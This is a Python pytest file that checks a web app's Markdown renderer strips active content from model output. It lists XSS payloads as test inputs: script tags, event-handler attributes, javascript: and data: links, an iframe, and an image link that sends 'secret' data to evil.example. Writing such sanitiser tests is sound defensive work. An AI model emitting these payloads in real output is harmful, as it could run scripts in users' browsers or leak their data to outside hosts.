"""Model text is rendered as Markdown with raw HTML off, then sanitised."""

from html.parser import HTMLParser

import pytest

from webapp.rendering import markdown_to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![exfiltrate](https://evil.example/x.png?data=secret)",
    "[click](javascript:alert(1))",
    '<a href="#" onclick="alert(1)">x</a>',
    "<svg onload=alert(1)></svg>",
    "<iframe src=https://evil.example></iframe>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
]


class ElementCollector(HTMLParser):
    """Collects every element and attribute the browser would build from the HTML."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs


def active_content(html: str) -> list:
    collector = ElementCollector()
    collector.feed(html)
    found = collector.tags & {"script", "img", "svg", "iframe", "object", "embed", "style"}
    found |= {name for name, _ in collector.attributes if name.startswith("on")}
    found |= {
        value
        for name, value in collector.attributes
        if name in ("href", "src") and not value.startswith(("https:", "http:", "mailto:"))
    }
    return sorted(found)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_active_content_survives(text):
    assert active_content(markdown_to_html(text)) == []


def test_the_checker_sees_active_content():
    assert active_content('<img src=x onerror=alert(1)><a href="javascript:x">') == [
        "img",
        "javascript:x",
        "onerror",
        "x",
    ]


def test_markdown_is_rendered():
    html = markdown_to_html("**bold** and `code`\n\n- one\n- two")
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert "<li>one</li>" in html


def test_links_are_kept_safe():
    html = markdown_to_html("[docs](https://example.org/docs)")
    assert 'href="https://example.org/docs"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
